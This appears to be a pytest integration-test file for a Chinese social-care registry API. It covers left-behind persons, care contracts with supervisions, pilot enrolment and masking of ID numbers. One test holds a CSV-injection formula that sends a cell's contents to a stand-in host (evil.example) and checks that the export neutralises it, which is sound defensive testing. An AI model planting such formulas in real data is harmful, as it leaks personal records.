"""The left-behind registry (R-LB-1), dispersed support (R-TK-5) and care pilots (R-LB-4)
through the gateway."""

from __future__ import annotations

import csv
import io
from datetime import date

import httpx
import pytest

from tests.care.conftest import CareEvents, Registry, new_id_number

TOWN = "350505101"  # 界山镇
VILLAGE = "350505101004"  # 白石村
OTHER_TOWN = "350505100"


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture(scope="module")
async def staff(set_clock, make_staff) -> dict:
    await set_clock("2020-06-15T09:00:00+08:00")
    _, caseworker = await make_staff("town_caseworker", town=TOWN)
    _, stranger = await make_staff("town_caseworker", town=OTHER_TOWN)
    _, worker = await make_staff("care_worker", town=TOWN)
    return {"caseworker": caseworker, "stranger": stranger, "worker": worker}


async def person(api: httpx.AsyncClient, token: str, *, birth: date, sex: str = "male", name: str = "对象") -> dict:
    response = await api.post("/api/v1/care/persons", headers=auth(token), json={
        "name": name, "id_number": new_id_number(birth, sex), "town": TOWN, "village": VILLAGE})
    assert response.status_code == 201, response.text
    return response.json()


async def test_registry_entries_criteria_history_and_export(api: httpx.AsyncClient, staff: dict) -> None:
    caseworker = staff["caseworker"]
    child = await person(api, caseworker, birth=date(2011, 9, 1), name="王小明")
    grandma = await person(api, caseworker, birth=date(1950, 2, 2), sex="female", name="李阿婆")
    entries = "/api/v1/care/left-behind"

    child_facts = {"parents": "both_away", "absence_months": 8, "guardian": "grandparent"}
    short = await api.post(entries, headers=auth(caseworker), json={
        "person_id": child["id"], "category": "child", "facts": {**child_facts, "absence_months": 3}})
    assert (short.status_code, short.json()["code"], short.json()["failures"]) == (422, "criteria_not_met", ["absence_too_short"])
    wrong_category = await api.post(entries, headers=auth(caseworker), json={
        "person_id": grandma["id"], "category": "child", "facts": child_facts})
    assert wrong_category.json()["failures"] == ["too_old"]
    missing_fact = await api.post(entries, headers=auth(caseworker), json={
        "person_id": child["id"], "category": "child", "facts": {"parents": "both_away", "absence_months": 8}})
    assert missing_fact.status_code == 422
    assert (await api.get(entries, params={"person_id": child["id"]})).json()["items"] == []

    created = await api.post(entries, headers=auth(caseworker), json={
        "person_id": child["id"], "category": "child", "facts": child_facts, "entered_on": "2020-06-01"})
    assert created.status_code == 201, created.text
    entry = created.json()
    assert (entry["status"], entry["town"], entry["village"]) == ("active", TOWN, VILLAGE)
    assert entry["criteria_trace"]["age"] == 8 and entry["criteria_trace"]["rule"] == "R-LB-1"
    twice = await api.post(entries, headers=auth(caseworker), json={"person_id": child["id"], "category": "child", "facts": child_facts})
    assert (twice.status_code, twice.json()["code"]) == (409, "already_registered")
    elderly = await api.post(entries, headers=auth(caseworker), json={
        "person_id": grandma["id"], "category": "elderly",
        "facts": {"children_away": True, "absence_months": 24, "living": "with_grandchildren"}})
    assert elderly.status_code == 201, elderly.text

    changed = await api.patch(f"{entries}/{entry['id']}", headers=auth(caseworker), json={
        "facts": {"parents": "one_away_other_unable", "absence_months": 10, "guardian": "grandparent"}, "note": "母亲重病"})
    assert changed.status_code == 200, changed.text
    no_longer = await api.patch(f"{entries}/{entry['id']}", headers=auth(caseworker), json={
        "facts": {"parents": "one_away_other_unable", "absence_months": 1, "guardian": "grandparent"}})
    assert (no_longer.status_code, no_longer.json()["code"]) == (422, "criteria_not_met")
    left = await api.post(f"{entries}/{entry['id']}:leave", headers=auth(caseworker),
                          json={"left_on": "2020-06-15", "reason": "parents_returned"})
    assert left.status_code == 200
    history = left.json()["history"]
    assert [h["change"] for h in history] == ["entered", "changed", "left"]
    assert history[1]["details"]["to"]["parents"] == "one_away_other_unable" and history[1]["note"] == "母亲重病"
    assert (left.json()["status"], left.json()["left_reason"]) == ("left", "parents_returned")

    hidden = await api.get(f"{entries}/{entry['id']}", headers=auth(staff["stranger"]))
    assert hidden.status_code == 404

    export = await api.get(f"{entries}/export", params={"town": TOWN}, headers=auth(caseworker))
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    assert "attachment" in export.headers["content-disposition"]
    text = export.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert list(rows[0])[:5] == ["姓名", "公民身份号码", "性别", "出生日期", "留守类型"]
    by_name = {r["姓名"]: r for r in rows}
    assert by_name["王小明"]["公民身份号码"] == child["id_number"]
    assert (by_name["王小明"]["留守类型"], by_name["王小明"]["状态"], by_name["王小明"]["退出原因"]) == ("留守儿童", "已退出", "父母返乡")
    assert (by_name["王小明"]["所属镇（街道）"], by_name["王小明"]["所属村（居）"]) == ("界山镇", "白石村")
    assert (by_name["李阿婆"]["留守类型"], by_name["李阿婆"]["性别"], by_name["李阿婆"]["状态"]) == ("留守老人", "女", "在册")
    other = await api.get(f"{entries}/export", headers=auth(staff["stranger"]))
    assert "王小明" not in other.content.decode("utf-8")
    # a care worker sees the ID number masked and may not export the file
    worker = staff["worker"]
    assert (await api.get(f"{entries}/export", headers=auth(worker))).status_code == 403
    seen = (await api.get(f"/api/v1/care/persons/{child['id']}", headers=auth(worker))).json()
    assert seen["id_number"] == child["id_number"][:3] + "*" * 11 + child["id_number"][-4:]


async def test_export_prefixes_formula_names(api: httpx.AsyncClient, staff: dict) -> None:
    """H2: a name a spreadsheet would run as a formula comes out '-prefixed (OWASP CSV injection);
    the ID number stays the bare 18 characters."""
    caseworker = staff["caseworker"]
    names = ['=HYPERLINK("http://evil.example/?x="&B2,"点击")', "+1+2", "-2+3", "@SUM(A1)"]
    made = {}
    for name in names:
        made[name] = await person(api, caseworker, birth=date(1948, 3, 3), sex="female", name=name)
        entered = await api.post("/api/v1/care/left-behind", headers=auth(caseworker), json={
            "person_id": made[name]["id"], "category": "elderly",
            "facts": {"children_away": True, "absence_months": 12, "living": "alone"}})
        assert entered.status_code == 201, entered.text
    export = await api.get("/api/v1/care/left-behind/export", params={"town": TOWN}, headers=auth(caseworker))
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8").lstrip("\ufeff"))))
    by_id = {r["公民身份号码"]: r for r in rows}
    for name in names:
        row = by_id[made[name]["id_number"]]
        assert row["姓名"] == "'" + name
        assert (row["留守类型"], row["状态"], row["外出时长（月）"]) == ("留守老人", "在册", "12")
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


async def test_criteria_calculator(api: httpx.AsyncClient) -> None:
    response = await api.post("/api/v1/care/left-behind:evaluate", json={
        "category": "woman", "sex": "female", "birth_date": "1990-01-01", "on": "2020-06-15",
        "facts": {"husband_away": True, "absence_months": 5}})
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["met"], body["failures"]) == (False, ["absence_too_short"])
    assert {p["key"] for p in body["trace"]["parameters"]} == {
        "left_behind_child_max_age", "left_behind_elderly_min_age", "left_behind_absence_months"}


async def test_dispersed_support_contract_and_supervisions(
    api: httpx.AsyncClient, staff: dict, registry: Registry, care_events: CareEvents, set_clock
) -> None:
    tekun = await registry.tekun_person(town=TOWN)
    caseworker = staff["caseworker"]
    bad = await api.post("/api/v1/care/care-contracts", headers=auth(caseworker), json={
        "person_id": tekun["id"], "institution": "界山镇颐养服务中心", "starts_on": "2020-03-01", "ends_on": "2020-02-01"})
    assert (bad.status_code, bad.json()["code"]) == (422, "ends_before_start")
    created = await api.post("/api/v1/care/care-contracts", headers=auth(caseworker), json={
        "person_id": tekun["id"], "institution": "界山镇颐养服务中心", "institution_code": "52350505MJ0000000X",
        "starts_on": "2020-01-01"})
    assert created.status_code == 201, created.text
    contract = created.json()
    assert contract["period_months"] == 3
    path = f"/api/v1/care/care-contracts/{contract['id']}"
    for kind, done_on in [("duty_fulfilled", "2020-02-10"), ("service_quality", "2020-03-05"), ("regular_visit", "2020-04-20")]:
        response = await api.post(f"{path}/supervisions", headers=auth(caseworker), json={
            "kind": kind, "done_on": done_on, "inspector": "民政办 陈", "satisfactory": True})
        assert response.status_code == 201, response.text
    duplicate = await api.post(f"{path}/supervisions", headers=auth(caseworker), json={
        "kind": "duty_fulfilled", "done_on": "2020-01-20", "inspector": "x", "satisfactory": True})
    assert (duplicate.status_code, duplicate.json()["code"]) == (409, "already_recorded")
    status = (await api.get(path, headers=auth(caseworker))).json()
    assert [(p["period_start"], p["kinds"]) for p in status["periods"]] == [
        ("2020-01-01", {"duty_fulfilled": "done", "service_quality": "done", "regular_visit": "overdue"}),
        ("2020-04-01", {"duty_fulfilled": "pending", "service_quality": "pending", "regular_visit": "done"}),
    ]
    # Q1 had ended before the contract was registered; Q2's lapse is reported once it ends
    await set_clock("2020-07-01T09:00:00+08:00")
    fired = await care_events.wait("care.supervision.overdue", lambda e: e["data"]["contract_id"] == contract["id"], count=2)
    await set_clock("2020-06-15T09:00:00+08:00")
    assert sorted((e["data"]["kind"], e["data"]["period_start"], e["data"]["period_end"]) for e in fired) == [
        ("duty_fulfilled", "2020-04-01", "2020-06-30"), ("service_quality", "2020-04-01", "2020-06-30")]
    assert fired[0]["data"]["person_id"] == tekun["member"]["person_id"]


async def test_pilot_enrolment_and_service_records(api: httpx.AsyncClient, staff: dict, registry: Registry) -> None:
    programmes = {p["code"]: p for p in (await api.get("/api/v1/care/programmes")).json()["items"]}
    severe = programmes["severe-disability-care"]
    assert severe["name"] == "贫困重度残疾人照护服务试点"
    assert programmes["jinta-mental-health-rehab"]["town"] == "350505001"
    caseworker = staff["caseworker"]
    disabled = await registry.tekun_person(town=TOWN, disability_grade=1, disability_kind="physical")
    mild = await registry.tekun_person(town=TOWN, disability_grade=3, disability_kind="physical")
    refused = await api.post(f"/api/v1/care/programmes/{severe['id']}/enrolments", headers=auth(caseworker),
                             json={"person_id": mild["id"]})
    assert (refused.status_code, refused.json()["code"], refused.json()["failures"]) == (422, "not_eligible", ["not_severely_disabled"])
    outside = await api.post(f"/api/v1/care/programmes/{programmes['jinta-mental-health-rehab']['id']}/enrolments",
                             headers=auth(caseworker), json={"person_id": disabled["id"]})
    assert set(outside.json()["failures"]) == {"outside_area", "not_mental_disorder"}
    enrolled = await api.post(f"/api/v1/care/programmes/{severe['id']}/enrolments", headers=auth(caseworker),
                              json={"person_id": disabled["id"], "enrolled_on": "2020-05-01"})
    assert enrolled.status_code == 201, enrolled.text
    enrolment = enrolled.json()
    service = await api.post(f"/api/v1/care/enrolments/{enrolment['id']}/services", headers=auth(caseworker), json={
        "served_on": "2020-06-10", "service_type": "daily_care", "minutes": 90, "provider": "界山镇护理员 林"})
    assert service.status_code == 201, service.text
    early = await api.post(f"/api/v1/care/enrolments/{enrolment['id']}/services", headers=auth(caseworker), json={
        "served_on": "2020-04-10", "service_type": "daily_care", "minutes": 90, "provider": "x"})
    assert (early.status_code, early.json()["code"]) == (422, "outside_enrolment")
    records = (await api.get(f"/api/v1/care/enrolments/{enrolment['id']}/services", headers=auth(caseworker))).json()
    assert [(r["service_type"], r["minutes"]) for r in records] == [("daily_care", 90)]
    counted = {p["code"]: p["enrolled"] for p in (await api.get("/api/v1/care/programmes")).json()["items"]}
    assert counted["severe-disability-care"] >= 1


async def test_death_in_the_registry_ends_the_care(api: httpx.AsyncClient, staff: dict, registry: Registry) -> None:
    tekun = await registry.tekun_person(town=TOWN, birth=date(1930, 1, 1))
    caseworker = staff["caseworker"]
    created = await api.post("/api/v1/care/care-contracts", headers=auth(caseworker), json={
        "person_id": tekun["id"], "institution": "界山镇颐养服务中心", "starts_on": "2020-05-01"})
    assert created.status_code == 201
    await registry.death(tekun["member"]["id_number"], "2020-06-10")

    async def dead() -> dict | None:
        record = (await api.get(f"/api/v1/care/persons/{tekun['id']}")).json()
        return record if record["deceased_on"] else None

    from tests.care.conftest import wait_for

    record = await wait_for(dead)
    assert record["deceased_on"] == "2020-06-10"
    contract = (await api.get(f"/api/v1/care/care-contracts/{created.json()['id']}")).json()["contract"]
    assert (contract["status"], contract["ends_on"]) == ("ended", "2020-06-10")
    late = await api.post(f"/api/v1/care/persons/{tekun['id']}/assessments",
                          json={"not_achieved": [], "assessed_on": "2020-06-12", "assessor": "x"})
    assert (late.status_code, late.json()["code"]) == (409, "person_deceased")
